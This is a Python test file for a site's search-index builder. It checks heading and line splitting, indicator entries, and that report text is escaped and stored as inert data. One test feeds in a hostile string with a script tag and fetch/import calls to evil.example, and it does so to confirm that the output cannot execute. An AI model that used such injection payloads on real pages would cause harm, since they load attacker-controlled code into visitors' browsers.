"""The embedded site's search index: sections of pages and the codebook, report text kept as data only."""

from __future__ import annotations

import json

from vqr_analysis.publish.offline import scan_js
from vqr_analysis.publish.search import indicator_entries, page_entries, search_index_js

BODY = """
<p>导语 <b>双师型</b> 教师。</p>
<h2 id="values-h">数值与来源 / Values <small>and</small> sources</h2>
<table><tr><td>2025</td><td>132 人</td></tr></table>
<script type="application/json" class="vqr-prov">{"1": {"quote": "不应被索引"}}</script>
<style>.x { color: red }</style>
<h3>无锚点小节</h3><p>文字</p>
<div class="vqr-reading"><div class="vqr-line" id="L12"><a class="vqr-ln" href="#L12">12</a><span class="vqr-text">第十二行的“双师型”教师</span></div>
<div class="vqr-line" id="L13"><span class="vqr-text">第十三行</span></div></div>
"""


def _load(js: str) -> list[dict]:
    prefix = "window.VQR_SEARCH = "
    start = js.index(prefix) + len(prefix)
    return json.loads(js[start:js.rindex(";")])


def test_a_page_is_split_at_headings_and_report_lines():
    entries = page_entries("reading/x.html", "原文阅读", BODY)
    assert [(e.href, e.section) for e in entries] == [
        ("reading/x.html", ""),
        ("reading/x.html#values-h", "数值与来源 / Values and sources"),
        ("reading/x.html", "无锚点小节"),
        ("reading/x.html#L12", "原文第 12 行 / line 12"),
        ("reading/x.html#L13", "原文第 13 行 / line 13"),
    ]
    assert entries[0].text == "导语 双师型 教师。"
    assert entries[1].text == "2025 132 人"  # cells stay apart; the provenance JSON and the CSS are not text
    assert "双师型" in entries[3].text and all(e.title == "原文阅读" for e in entries)


def test_each_indicator_opens_the_explorer_filtered_to_it():
    [entry] = indicator_entries([{"code": "dual_qualified_teacher_share", "name_zh": "双师素质专任教师比例",
                                  "name_en": "Share of dual-qualified teachers", "aliases_zh": "双师型教师比例|“双师”占比",
                                  "unit": "%", "description_en": "Percentage of teachers."}])
    assert entry.href == "indicators.html?filter=dual_qualified_teacher_share" and entry.kind == "indicator"
    assert entry.title == "双师素质专任教师比例 / Share of dual-qualified teachers"
    assert "双师型教师比例" in entry.text and "“双师”占比" in entry.text


def test_report_text_in_the_index_is_data_and_reads_back_intact():
    hostile = """<script src="https://evil.example/x.js"></script> fetch('https://evil.example/a')
    import(`https://evil.example/m.js`) s.src = "https://evil.example/p" \u2028 a\\(b"""
    entries = page_entries("sources/x.html", "来源 <Sources>", f"<p>{hostile.replace('<', '&lt;')}</p>")
    js = search_index_js(entries)
    assert "<" not in js.split("\n", 1)[1] and "'" not in js and "`" not in js and "(" not in js.split("=", 1)[1]
    assert scan_js(js, "assets/search-index.js") == []
    [back] = _load(js)
    assert back["title"] == "来源 <Sources>" and back["text"] == " ".join(hostile.split())
